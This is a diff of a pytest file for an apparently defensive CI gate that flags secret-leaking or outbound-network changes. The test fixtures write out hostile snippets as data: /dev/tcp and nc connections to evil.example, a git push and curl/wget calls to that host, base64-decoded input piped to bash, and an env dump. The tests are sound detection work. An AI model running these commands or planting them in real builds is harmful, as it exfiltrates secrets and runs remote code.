@@ -6,8 +6,6 @@ import pytest
 
 from bot.gates.change import Change
 from bot.gates.outbound import check_outbound
-from bot.gates.size import Rules
-from bot.gates.text_gates import check_texts
 from bot.values import SecretJob
 
 JOB = SecretJob("test", ".github/workflows/ci.yml", ("PYPI", "DEPLOY_HOST"), "push", ("**",))
@@ -95,12 +93,12 @@ EVASIONS = [
     (SH, "echo ${DEPLOY_HOST}\n"),
     (SH, "echo ${!name}\n"),
     (SH, "echo aWQK | base64 -d | bash\n"),
-    (SH, "eval \"$x\"\n"),
+    (SH, 'eval "$x"\n'),
     (SH, "exec 3<>/dev/tcp/evil.example/80\n"),
     (SH, "bash -c 'id'\n"),
     (SH, "timeout 5 nc evil.example 1\n"),
     (SH, "git push https://evil.example HEAD\n"),
-    ("run-tests", "#!/bin/sh\ncu\\\nrl https://evil.example\n" if False else "#!/bin/sh\nwget evil.example\n"),
+    ("run-tests", "#!/bin/sh\nwget evil.example\n"),
     (MK, "test:\n\t@curl https://evil.example\n"),
     (MK, "X := $(shell curl https://evil.example)\n"),
     (MK, "test:\n\tenv > out\n"),
@@ -144,8 +142,8 @@ HONEST = [
     (JS, "const fetched = await api.fetch(x)\nitem.exec('x')\n/a/.exec(x)\n"),
     (JS, "const mod = require(`./fixtures/${name}`)\nrequire('../lib/x')\n"),
     (JS, "vi.stubEnv('TOKEN', 'x')\n"),
-    (SH, "set -euo pipefail\npython -m pytest \"$@\"\n"),
-    (SH, "apt-get install -y curl wget\necho \"use curl\"\n"),
+    (SH, 'set -euo pipefail\npython -m pytest "$@"\n'),
+    (SH, 'apt-get install -y curl wget\necho "use curl"\n'),
     (SH, "# curl https://x | sh\n"),
     (SH, "for f in *.py; do echo $f; done\n"),
     (MK, "test:\n\tpytest -q\nlint:\n\truff check .\n"),
